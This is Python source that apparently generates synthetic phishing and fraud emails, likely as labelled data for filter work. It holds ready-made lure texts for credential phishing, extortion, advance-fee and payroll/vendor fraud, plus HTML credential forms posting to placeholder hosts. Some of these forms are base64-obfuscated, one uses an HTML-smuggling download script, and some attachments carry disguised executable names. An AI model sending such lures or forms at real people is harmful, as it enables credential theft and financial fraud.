"""Phishing and fraud by the techniques that are described of them, in invented words. Each scenario makes one message."""

import base64
import io
import tomllib
import zipfile

import names
from names import ROOT, firm, letters, of_kind, person, shown, token
from render import Mail, base64_of, pdf, qr_png, quoted

SCENARIOS = []
SERVICES = {one["kind"]: one["hosts"] for one in tomllib.loads((ROOT / "links" / "links.toml").read_text(encoding="utf-8"))["service"]}


def scenario(function):
    SCENARIOS.append(function)
    return function


def hacked(rng):
    """A site that was broken into, or one that was bought for it."""
    domain = firm(rng)[1] if rng.random() < 0.6 else f"{letters(rng, rng.randrange(6, 13))}.{rng.choice(['example', 'test', 'invalid'])}"
    path = rng.choice(["wp-content/plugins/{t}/index.php", "wp-includes/{t}/login", "{t}", "secure/{t}", ".well-known/{t}/", "cgi-bin/{t}", "~{t}/update", "images/{t}.html", "r/{t}", "account/verify.php?id={t}", "", "?e={t}"])
    return f"{rng.choice(['http', 'https', 'https'])}://{rng.choice(['', 'www.', 'mail.', letters(rng, 8) + '.'])}{domain}/{path.format(t=token(rng, rng.randrange(4, 30)))}"


def hosted(rng, kind=None):
    kind = kind or rng.choice(["hosting", "hosting", "forms", "shortener", "files"])
    host = rng.choice(SERVICES[kind])
    if kind == "hosting":
        return f"https://{rng.choice([letters(rng, 10), 'secure-login-' + letters(rng, 4), 'webmail-' + letters(rng, 5), 'account-review'])}.{host}/{rng.choice(['', 'index.html', token(rng, 8)])}"
    return f"https://{host}/{token(rng, rng.choice([7, 20, 40]))}"


def posed(brand, rng):
    """A host that is made to be taken for the brand's."""
    core = brand["domains"][0].split(".")[0]
    evil = firm(rng)[1]
    return "https://" + rng.choice([f"{core}-{rng.choice(['secure', 'login', 'support', 'verify', 'billing'])}.example/", f"{brand['domains'][0]}.{letters(rng, 7)}.example/signin", f"{core}.{evil}/", f"{rng.choice(['my', 'secure'])}{core}.test/login",
                                    f"{core}.account-{letters(rng, 5)}.test/"]) + token(rng, 8)


def redirected(rng):
    target = quoted(hacked(rng))
    return rng.choice([f"https://www.google.com/url?q={target}&sa=D", f"https://l.{firm(rng)[1]}/redirect?url={target}", f"https://googleads.g.doubleclick.net/pcs/click?adurl={target}", f"https://www.bing.com/ck/a?u={target}", f"https://{firm(rng)[1]}/away.php?to={target}"])


def bad_link(rng, brand=None):
    kind = rng.random()
    if kind < 0.5:
        return hacked(rng)
    if kind < 0.75:
        return hosted(rng)
    if kind < 0.85 and brand:
        return posed(brand, rng)
    if kind < 0.93:
        return redirected(rng)
    return f"http://{rng.choice(['198.51.100', '203.0.113', '192.0.2'])}.{rng.randrange(1, 255)}{rng.choice(['', ':8080'])}/{token(rng, 6)}"


def with_recipient(url, to, rng):
    kind = rng.random()
    if kind < 0.5:
        return url
    if kind < 0.75:
        return f"{url.split('#')[0]}#{to}"
    if kind < 0.9:
        return f"{url.split('#')[0]}#{base64_of(to)}"
    return f"{url}{'&' if '?' in url else '?'}email={to}"


def mixed(rng):
    return "".join(rng.choice("bcdfghjklmnpqrstvwxyzaeiouBCDFGHJKLMNPQRSTVWXYZ") for _ in range(rng.randrange(7, 11)))


def liar(rng, brand=None):
    """An address that it is sent from: of a site broken into, of one's own, at free mail, or the brand's own, forged."""
    kind = rng.random()
    if kind < 0.55:
        return f"{rng.choice(['info', 'noreply', 'contact', 'admin', 'no-reply', 'support', 'wordpress', letters(rng, 9), person(rng)[0].lower()])}@{firm(rng)[1]}"
    if kind < 0.6:
        return f"{mixed(rng)}@{rng.choice(['', 'deck.', 'mail.'])}{firm(rng)[1]}"
    if kind < 0.75:
        return f"{rng.choice(['noreply', 'service', letters(rng, 10)])}@{letters(rng, rng.randrange(7, 14))}.{rng.choice(['example', 'test'])}"
    if kind < 0.87:
        return f"{rng.choice([letters(rng, 11), person(rng)[0].lower() + letters(rng, 5), 'alerts.team' + str(rng.randrange(999))])}@{rng.choice(['gmail.com', 'outlook.com', 'hotmail.com', 'yahoo.com', 'aol.com'])}"
    if brand and kind < 0.95:
        return f"{rng.choice(['service', 'no-reply', 'security'])}@{brand['domains'][0]}"
    core = (brand or {"domains": ["webmail.example"]})["domains"][0].split(".")[0]
    return f"no-reply@{core}-{rng.choice(['alerts', 'mail', 'notice'])}.example"


ALERTS = {
    "en": ["Your account has been limited because of unusual activity. Please verify your information within 24 hours or your account will be suspended.", "We detected an unauthorized sign-in to your account. Confirm your identity to keep access.",
           "Your payment was declined and your {b} membership is on hold. Update your billing information to continue.", "Your {b} account will be deactivated. To avoid interruption, confirm your account now.",
           "You have a pending refund of 184.20. Submit your details to receive it.", "A payment of 479.99 was authorised. If this was not you, cancel it at once by signing in.", "Your {b} ID was locked for security reasons. Unlock it below.",
           "For your security we need you to validate your wallet before the upgrade. Wallets that are not verified will lose access to their funds."],
    "de": ["Ihr Konto wurde aus Sicherheitsgründen eingeschränkt. Bitte bestätigen Sie Ihre Daten innerhalb von 24 Stunden, sonst wird Ihr Konto gesperrt.", "Ihre Registrierung läuft ab. Aktualisieren Sie Ihre Daten jetzt."],
    "es": ["Su cuenta ha sido bloqueada por motivos de seguridad. Verifique sus datos en las próximas 24 horas para evitar la suspensión.", "Hemos detectado un acceso no autorizado. Confirme su identidad."],
    "pt": ["Sua conta foi bloqueada por segurança. Atualize seus dados agora para evitar a suspensão.", "Seus pontos expiram hoje! Resgate agora antes que seja tarde. Evite o bloqueio do seu cartão."],
    "fr": ["Votre compte a été suspendu pour des raisons de sécurité. Veuillez confirmer vos informations sous 24 heures.", "Votre carte vitale expire. Mettez à jour votre dossier pour conserver vos droits."],
    "ur": ["آپ کا اکاؤنٹ بند کر دیا جائے گا۔ براہ کرم 24 گھنٹے کے اندر اپنی معلومات کی تصدیق کریں۔", "آپ کا اے ٹی ایم کارڈ بلاک ہو گیا ہے۔ دوبارہ چلانے کے لیے ابھی تصدیق کریں۔"],
    "ur-Latn": ["Aap ka account band kar diya jaye ga. Fori tor par apni maloomat ki tasdeeq karein warna account block ho jaye ga.", "Mubarak ho! Aap ka inaam nikla hai. Raqam hasil karne ke liye neeche click karein."],
}
LABELS = {"en": ["Verify now", "Confirm your account", "Sign in", "Update billing", "Restore access", "Click here", "Review activity", "Continue", "Cancel payment", "Unlock account"], "de": ["Jetzt bestätigen", "Hier klicken", "Konto aktualisieren"],
          "es": ["Verificar cuenta", "Haga clic aquí", "Acceder"], "pt": ["Atualizar agora", "Clique aqui", "Resgatar pontos"], "fr": ["Confirmer", "Cliquez ici", "Accéder à mon compte"], "ur": ["تصدیق کریں", "یہاں کلک کریں"], "ur-Latn": ["Yahan click karein", "Tasdeeq karein"]}
SUBJECTS = {"en": ["{b}: action required", "Your account is limited", "Security notification", "Important notice about your {b} account", "We could not process your payment [{n}]", "Unusual sign-in activity", "Final reminder", "Re: your case {n}"],
            "de": ["{b}: Handlung erforderlich", "Wichtige Mitteilung", "Ihr Konto wurde eingeschränkt"], "es": ["{b}: aviso importante", "Su cuenta está bloqueada"], "pt": ["{b}: seus pontos expiram", "Aviso importante", "Sua conta foi bloqueada"],
            "fr": ["{b} : action requise", "Votre compte est suspendu"], "ur": ["فوری اطلاع", "آپ کا اکاؤنٹ"], "ur-Latn": ["Zaroori ittila", "{b} account alert"]}


def alert(rng, brand, language):
    called = shown(brand, rng)
    to, first = names.recipient(rng)
    address = liar(rng, brand)
    kind = rng.random()
    name = called if kind < 0.35 else rng.choice([f"{called} Support", f"{called} Security", f"{called} Team", f"{called} Billing"]) if kind < 0.7 else rng.choice(["Customer Service", "Support", "Account team", "Notification", "Service client", "Security Department", ""])
    url = bad_link(rng, brand)
    mail = Mail(name, address, rng.choice(SUBJECTS[language]).format(b=called, n=rng.randrange(10**4, 10**7)), [rng.choice([f"Dear {to},", "Dear customer,", "Dear user,", f"Hello {to.split('@')[0]},", f"Hi {first},", ""]), rng.choice(ALERTS[language]).format(b=called)], to=to)
    mail.button = (rng.choice(LABELS[language]), with_recipient(url, to, rng) if rng.random() < 0.3 else url)
    if rng.random() < 0.15:
        mail.links = [(f"https://www.{brand['domains'][0]}/login", url)]
    if rng.random() < 0.4:
        mail.images = [(rng.choice([f"https://www.{brand['domains'][0]}/logo.png", f"https://i.{firm(rng)[1]}/l.png"]), called, rng.choice([None, url]))]
    if rng.random() < 0.5:
        mail.footer = [(f"© 2026 {brand['name']}. All rights reserved.", None)]
        if rng.random() < 0.5:
            mail.footer += [("Privacy", f"https://www.{brand['domains'][0]}/privacy"), ("Help", rng.choice([url, f"https://www.{brand['domains'][0]}/help"]))]
    if rng.random() < 0.15:
        mail.hidden = " ".join(rng.choice(["garden", "river", "letter", "window", "orange", "winter", "button", "silver"]) for _ in range(rng.randrange(60, 200)))
    return mail


@scenario
def brand_alert(rng):
    """Credentials of a brand's customers."""
    return alert(rng, rng.choice(of_kind("bank", "payment", "software", "mail", "cloud", "shop", "media", "social", "telecom", "crypto", "travel", "games")), rng.choice(["en"] * 5 + ["de", "es", "pt", "fr"]))


@scenario
def brand_alert_again(rng):
    return brand_alert(rng)


@scenario
def bank_of_pakistan(rng):
    """Banks and wallets, in Urdu, Urdu in Latin letters and English."""
    local = [one for one in names.BRANDS if any(domain.endswith(".pk") for domain in one["domains"])] or names.BRANDS
    return alert(rng, rng.choice(local), rng.choice(["ur", "ur-Latn", "en"]))


@scenario
def wallet(rng):
    """Of cryptocurrencies."""
    return alert(rng, rng.choice(of_kind("crypto")), "en")


@scenario
def parcel(rng):
    brand = rng.choice(of_kind("parcels"))
    called = shown(brand, rng)
    to, _ = names.recipient(rng)
    url = bad_link(rng, brand)
    text, label = rng.choice([("Your parcel could not be delivered because customs duty of 2.99 is unpaid. Pay the fee within 48 hours or the parcel will be returned.", "Pay now"), ("Your package is waiting for delivery. Confirm your address and pay the shipping fee.", "Schedule delivery"),
                              ("Ihr Paket wartet auf die Zustellung. Bitte zahlen Sie die Zollgebühr von 1,99 EUR.", "Sendung freigeben"), ("Su paquete está retenido. Pague los gastos de envío de 1,79 EUR para recibirlo.", "Pagar ahora"),
                              ("Votre colis est en attente. Veuillez régler les frais de livraison de 1,95 EUR.", "Suivre mon colis"), ("Seu pacote foi retido na alfândega. Pague a taxa para liberar a entrega.", "Pagar taxa")])
    return Mail(rng.choice([called, f"{called} Express", "Delivery service", "Tracking"]), liar(rng, brand), rng.choice([f"Your package {rng.randrange(10**8)} is on hold", f"{called}: delivery failed", "Shipment notification", "Your parcel is waiting"]), [text], to=to, button=(label, url),
                images=[(f"https://cdn.{firm(rng)[1]}/a.png", called, url)] if rng.random() < 0.4 else [], footer=[(f"{brand['name']} tracking {rng.randrange(10**10)}", None)] if rng.random() < 0.5 else [])


@scenario
def mailbox(rng):
    """The reader's own mailbox: full, expiring, holding messages."""
    to, first = names.recipient(rng)
    domain = to.split("@")[1]
    url = with_recipient(rng.choice([hacked, hosted])(rng), to, rng)
    text, label = rng.choice([("Your mailbox is almost full (98 %). Incoming messages will be rejected unless you upgrade your storage.", "Upgrade storage"), ("Your password expires today. Keep your current password to avoid losing access to your mailbox.", "Keep current password"),
                              ("You have 7 undelivered messages that are pending on the server because of a synchronisation error.", "Release messages"), ("We are closing old versions of webmail. Re-validate your mailbox or it will be deactivated.", "Validate mailbox"), ("Unusual sign-in to your mailbox was blocked. Verify your account to restore access.", "Verify account")])
    return Mail(rng.choice([f"{domain} Mail Administrator", "IT Helpdesk", "Mail Delivery Subsystem", f"{to}", "Webmail Admin", "Email Support", f"{domain}"]), liar(rng), rng.choice([f"Password expiry notice for {to}", "Mailbox quota exceeded", f"[{domain}] pending messages", "Action required: mail server update", f"{first}, your password expires"]),
                [rng.choice([f"Dear {to.split('@')[0]},", f"Attention {to}", "Dear user,", f"Hello {first},"]), text], to=to, button=(label, url), footer=[(f"{domain} support {2026}", None)])


@scenario
def document(rng):
    """Something to be seen, signed or heard: behind a link, or as a file that asks for a password."""
    to, first = names.recipient(rng)
    brand = rng.choice(of_kind("e-sign", "files", "software"))
    called = shown(brand, rng)
    sender, last = person(rng)
    text, label, subject = rng.choice([(f"{sender} {last} sent you a document to review and sign.", "Review document", f"Completed: complete with {called}"), ("You received a new voice message. Duration 0:41.", "Play message", f"Voicemail from +44 20 {rng.randrange(10**7)}"),
                                       (f"A secure document was shared with you through {called}.", "Open document", "Shared document: payroll adjustment"), ("You have received a fax of 3 pages.", "View fax", f"eFax message {rng.randrange(10**6)}"), ("Please find the remittance advice of today.", "View remittance", f"Remittance advice {rng.randrange(10**5)}"),
                                       ("The request for proposal is ready for your review.", "Access proposal", "RFP 2026")])
    url = with_recipient(rng.choice([hosted, hosted, hacked, redirected])(rng), to, rng)
    mail = Mail(rng.choice([called, f"{sender} {last} via {called}", f"{sender} {last}", f"{to.split('@')[1].split('.')[0]} e-documents", "Scanner"]), liar(rng, brand if rng.random() < 0.3 else None), subject, [text], to=to)
    kind = rng.random()
    if kind < 0.6:
        mail.button = (label, url)
    else:
        mail.text.append(rng.choice(["Open the attached file to view it.", "Sign in with your mail password to see the attached document.", "See the attachment."]))
        mail.files = [page_file(rng, to)]
    return mail


def page_file(rng, to):
    """A page as a file: a form, a script that makes a page, or one that leads on."""
    target = hacked(rng)
    form = f'<html><body><h2>Sign in to continue</h2><form method="post" action="{target}"><input name="email" value="{to}"><input type="password" name="pass"><button>View document</button></form></body></html>'
    kind = rng.randrange(3)
    if kind == 0:
        page = form
    elif kind == 1:
        page = f'<html><script>document.write(decodeURIComponent(escape(atob("{base64.b64encode(form.encode()).decode()}"))));</script></html>'
    else:
        page = f'<html><script>var d=atob("{base64.b64encode(form.encode() * 3).decode()}");var a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);var b=new Blob([a]);var u=URL.createObjectURL(b);var l=document.createElement("a");l.href=u;l.download="doc.html";l.click();</script></html>'
    return (rng.choice(["Document.html", "Remittance.htm", "Voice_0041.html", "Invoice.shtml"]), rng.choice(["text/html", "application/octet-stream"]), page.encode())


@scenario
def code_to_scan(rng):
    """A QR code, so that the link is opened on a telephone."""
    to, first = names.recipient(rng)
    brand = rng.choice(of_kind("software", "e-sign"))
    url = with_recipient(rng.choice([hacked, hosted, redirected])(rng), to, rng)
    text, subject = rng.choice([("Your authenticator expires today. Scan the code with your phone to keep access to your account.", "Two-factor authentication update"), ("Scan the QR code to review and sign the document on your mobile device.", "Employee handbook: signature required"), ("Payroll: scan the code to confirm your new salary details.", "Salary review")])
    mail = Mail(rng.choice(["IT Support", "HR Department", shown(brand, rng), f"{to.split('@')[1]} security"]), liar(rng, brand), subject, [f"Dear {first},", text], to=to)
    mail.files = [("qr.png", "image/png", qr_png(url))] if rng.random() < 0.6 else [("Document.pdf", "application/pdf", pdf([subject, text[:60]], url))]
    return mail


@scenario
def file_bill(rng):
    """A bill or an order that is a program, an archive with a password, a page, or a document that leads on."""
    to, first = names.recipient(rng)
    _, last = person(rng)
    subject, text = rng.choice([("Invoice overdue", "please find attached the overdue invoice. Pay at once to avoid legal action."), ("Purchase order 4471", "kindly find the attached purchase order and send your best price."), ("Payment copy", "attached is the swift copy of the payment of yesterday."), ("DHL shipping documents", "see the attached documents of your shipment.")])
    mail = Mail(rng.choice([f"Accounts {last}", "Sales department", "Purchasing"]), liar(rng), subject, [rng.choice([f"Dear {first},", "Dear sir or madam,"]), text], to=to)
    kind = rng.randrange(4)
    if kind == 0:
        mail.files = [page_file(rng, to)]
    elif kind == 1:
        mail.files = [("Invoice.pdf", "application/pdf", pdf(["This document is protected.", "Click to view"], bad_link(rng)))]
    elif kind == 2:
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            archive.writestr(zipfile.ZipInfo(rng.choice(["Invoice.pdf.exe", "PO_4471.js", "Payment.vbs", "Scan.lnk"]), (2026, 1, 2, 3, 4, 6)), b"MZ" + b"\0" * 200)
        mail.files = [("Invoice.zip", "application/zip", packed.getvalue())]
    else:
        mail.files = [(rng.choice(["Invoice.pdf.scr", "Order.js", "PO.exe", "Statement.iso"]), "application/octet-stream", b"MZ" + b"\0" * 300)]
    return mail


COINS = ["1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy"]


@scenario
def extortion(rng):
    to, _ = names.recipient(rng)
    own = rng.random() < 0.5
    text = rng.choice(["I have full access to your device. I recorded you through your camera while you visited adult sites. Send {a} USD in Bitcoin to the wallet below or I will send the video to all of your contacts.",
                       "Your system was hacked. I installed a trojan and know your password. You have 48 hours to transfer {a} dollars in bitcoin. If I do not receive the payment, your files will be published.",
                       "I am a hacker and I have copied your data. Pay {a} USD in bitcoin to my wallet. Do not contact the police."])
    return Mail(rng.choice(["", "Anonymous", to, person(rng)[0]]), to if own else liar(rng), rng.choice(["You have been hacked", "Your account was compromised", "Last warning", "Payment from your account", f"{to.split('@')[0]}: I know your secret"]),
                ["Hello,", text.format(a=rng.randrange(500, 2500)), f"Bitcoin wallet: {rng.choice(COINS)}", "The time starts now."], to=to, shape=rng.choice(["plain", "html", "both"]))


@scenario
def advance_fee(rng):
    to, _ = names.recipient(rng)
    first, last = person(rng)
    free = f"{first}{last}{rng.randrange(100, 999)}@{rng.choice(['gmail.com', 'outlook.com', 'yahoo.com', 'proton.me', 'aol.com'])}".lower()
    text = rng.choice(["I am Mr. {n}, auditor of a bank. A customer died without next of kin and left {m} million US dollars. I need your help to transfer this fund to your account; you will keep 40 %.", "You have been selected for a donation of $2,500,000.00 by my foundation. Contact me for the claim of your funds.",
                       "Your compensation payment of USD 10,500,000.00 was approved by the United Nations. Send your full name, address and telephone number to receive it by ATM card.", "I am a widow with a terminal illness and want to give my inheritance of 8.5 million euros to charity through you.",
                       "We offer loans from 5,000 to 50,000,000 USD at 2 % to companies and persons. Apply today without collateral.", "My client wants to invest 45 million dollars in your country. Are you interested in this confidential business proposal?"])
    mail = Mail(rng.choice([f"Mr. {first} {last}", f"Mrs. {first} {last}", f"Barrister {last}", "United Nations", f"Dr. {first} {last}"]), free if rng.random() < 0.4 else liar(rng), rng.choice(["Dear friend", "Donation", "Urgent response needed", "Your compensation fund", "Business proposal", "Beneficiary", "Re: inheritance", "Loan offer"]),
                [rng.choice(["Dear friend,", "Greetings,", "Attention beneficiary,", "Good day,"]), text.format(n=last, m=rng.randrange(3, 40)), f"Contact me: {free}", f"{first} {last}"], to=to, to_field=rng.choice([None, "undisclosed-recipients:;", ""]), shape=rng.choice(["plain", "plain", "html"]))
    if rng.random() < 0.6:
        mail.reply_to = free
    return mail


@scenario
def prize(rng):
    """A reward, a survey, a miracle: to click at once."""
    to, first = names.recipient(rng)
    brand = rng.choice(of_kind("shop", "telecom", "payment", "media", "software"))
    called = shown(brand, rng)
    url = bad_link(rng)
    text, subject = rng.choice([(f"Congratulations! You have been selected to receive a {called} gift card worth 500. Answer a short survey to claim your reward.", f"{called} reward inside"), ("You have won a new phone. Confirm your delivery now, only a few left.", "You are our winner"), (f"Your {called} points expire today. Claim your prize before midnight.", "Second attempt to reach you"),
                                ("Doctors hate this: lose 15 kg in a month without exercise. Limited offer.", "Shocking discovery"), (f"Your {called} loyalty reward is ready. We tried to reach you.", f"Confirmation {rng.randrange(10**6)}"), ("Storage full: your photos will be deleted today. Get 50 GB for free.", "Your cloud storage is full")])
    mail = Mail(rng.choice([called, f"{called} Rewards", "Winner department", "Promo", f"{called} Loyalty"]), liar(rng), subject, [] if rng.random() < 0.3 else [f"Dear {first},", text], to=to, images=[(f"https://{firm(rng)[1]}/{token(rng, 12)}.png", rng.choice(["", called]), url)], button=(rng.choice(["Claim now", "Continue", "Get started", "CONFIRM NOW"]), url) if rng.random() < 0.6 else None)
    mail.footer = [("Unsubscribe", bad_link(rng) if rng.random() < 0.3 else url)] if rng.random() < 0.7 else []
    if rng.random() < 0.35:
        mail.hidden = " ".join(rng.choice(["meeting", "budget", "winter", "table", "music", "travel", "paper", "coffee", "garden"]) for _ in range(rng.randrange(60, 400)))
    return mail


@scenario
def executive(rng):
    """Short, from who claims to be somebody at work: gift cards, a transfer, a new account."""
    to, guest = names.recipient(rng)
    first, last = person(rng)
    title = rng.choice(["CEO", "Director", "Managing Director", "HR Manager", "Chief Financial Officer"])
    free = rng.choice([f"{title.split()[0]}.office{rng.randrange(99)}", f"{first}.{last}.{letters(rng, 4)}", f"executive{letters(rng, 6)}", f"{letters(rng, 9)}"]).lower() + "@" + rng.choice(["gmail.com", "outlook.com", "aol.com", "yahoo.com", "mail.com"])
    text, subject = rng.choice([("Are you at your desk? I need you to buy some gift cards for a client today. I am in a meeting, answer only by mail and keep this between us.", "Quick request"), ("I changed my bank. Please update my direct deposit with the new account details before the next payroll.", "Payroll update"),
                                ("Kindly process a wire transfer to a new vendor today, it is urgent and confidential. Send me the balance first.", "Urgent wire"), ("Our bank account changed. Please send all outstanding payments to the new bank details attached and confirm.", "Change of bank details"), ("Send me your personal mobile number, I need a task done discreetly. I am in a conference and cannot call.", "Task"),
                                ("I need a list of all overdue invoices of our customers and their addresses as soon as possible.", "Aging report"), ("Mujhe fori tor par gift card chahiye, kisi ko mat batana. Khareed kar code bhej dein.", "Zaroori kaam")])
    mail = Mail(rng.choice([f"{first} {last}", f"{first} {last} ({title})", f"{title}", f"{first} {last} {title}"]), free, subject, [rng.choice([f"Hi {guest},", guest + ",", "Hello,"]), text, rng.choice([f"{first} {last}\n{title}", first, "Sent from my phone"])], to=to, shape=rng.choice(["plain", "plain", "html"]))
    if rng.random() < 0.3:
        mail.address, mail.reply_to = f"{first}.{last}@{firm(rng)[1]}".lower(), free
    return mail


@scenario
def vendor(rng):
    """A supplier's new account, answers to which go elsewhere."""
    to, guest = names.recipient(rng)
    first, last = person(rng)
    name, domain = firm(rng)
    mail = Mail(f"{first} {last}", f"{first}.{last}@{domain}".lower(), rng.choice(["Re: Outstanding invoice", "Updated bank details", "Payment of invoice 2231"]), [f"Dear {guest},", rng.choice(["due to an audit our account cannot receive funds. Please use our new bank account for this and all further payments.", "we have changed our bank. Kindly update our payment details in your records before the next transfer.", "please hold the payment; the new account details follow. Confirm that you received this message only by mail."]), f"{first} {last}\n{name}"], to=to)
    mail.reply_to = f"{first}.{last}@{rng.choice([domain.replace('.', '-bill.', 1), 'gmail.com', letters(rng, 8) + '.example'])}".lower()
    return mail


@scenario
def call_us(rng):
    """A bill of a brand, and a number to call; no link that a filter could see."""
    to, first = names.recipient(rng)
    brand = rng.choice(of_kind("security", "payment", "software", "shop"))
    called = shown(brand, rng)
    number = f"+1 (8{rng.randrange(10, 99)}) {rng.randrange(200, 999)}-{rng.randrange(1000, 9999)}"
    text = rng.choice([f"Thank you for your order. Your {called} subscription was renewed for {rng.randrange(199, 899)}.99 USD and will be charged today. To cancel call our helpline {number}.", f"Your {called} payment of {rng.randrange(299, 999)}.00 is being processed. If you did not authorise it, call {number} within 24 hours for a refund."])
    mail = Mail(rng.choice([f"{called} Billing", person(rng)[0], "Invoice", f"{called}", "Order confirmation"]), liar(rng), rng.choice([f"Order {token(rng, 10).upper()}", f"Invoice {rng.randrange(10**8)}", f"{called} renewal receipt", "Your purchase"]), [f"Dear {rng.choice([first, 'customer', to])},", text, f"Helpline: {number}"], to=to, shape=rng.choice(["plain", "html", "both"]))
    if rng.random() < 0.4:
        mail.files = [("Invoice.pdf", "application/pdf", pdf([called, f"Call {number}", "Total 499.99 USD"]))]
    return mail


@scenario
def stranger_offer(rng):
    """A short text and a link from a stranger."""
    to, first = names.recipient(rng)
    url = bad_link(rng)
    text, label = rng.choice([("I saw your profile and want to know you better. My photos are here.", "See my photos"), ("Your website has errors. We can bring it to the first page of Google.", "See the report"), ("You earned 0.84 BTC on your mining account. Withdraw before it is closed.", "Withdraw now"), ("Your application was accepted. Start to work from home and earn 5,000 a week.", "Start now"), ("Please see the document that I mentioned.", "Document"),
                              ("Invoice is due. Make the payment now to avoid fees.", "Pay invoice")])
    return Mail(rng.choice([person(rng)[0], "Notification", "New message", "Support desk"]), liar(rng), rng.choice(["Hello", "Re:", "New message for you", "Your balance", f"Notice {rng.randrange(10**6)}", first]), [text], to=to, button=(label, url), to_field=rng.choice([None, None, ""]))


@scenario
def reports_by_mail(rng):
    """Links that write to strangers instead of leading to a page."""
    to, _ = names.recipient(rng)
    brand = rng.choice(of_kind("software", "social", "mail"))
    called = shown(brand, rng)
    who = ",".join(f"{letters(rng, 8)}@{rng.choice(['gmail.com', 'outlook.com', letters(rng, 7) + '.example'])}" for _ in range(rng.randrange(1, 5)))
    return Mail(f"{called} account team", liar(rng), f"{called} account unusual sign-in activity", ["We detected something unusual about a recent sign-in.", "Country: Elsewhere. IP address: 203.0.113.9", "If this was not you, report the user."], to=to, button=("Report the user", f"mailto:{who}?subject=Report%20the%20user"),
                links=[("click here to unsubscribe", f"mailto:{who}?subject=unsubscribe")], shape=rng.choice(["html", "both"]))


@scenario
def form_in_mail(rng):
    """A form within the message itself."""
    to, first = names.recipient(rng)
    brand = rng.choice(of_kind("bank", "mail", "software", "payment"))
    mail = alert(rng, brand, "en")
    mail.shape = "html"
    mail.raw_html = f'<form action="{hacked(rng)}" method="post"><p>Email <input name="email"></p><p>Password <input type="password" name="password"></p><input type="submit" value="Confirm"></form>'
    return mail
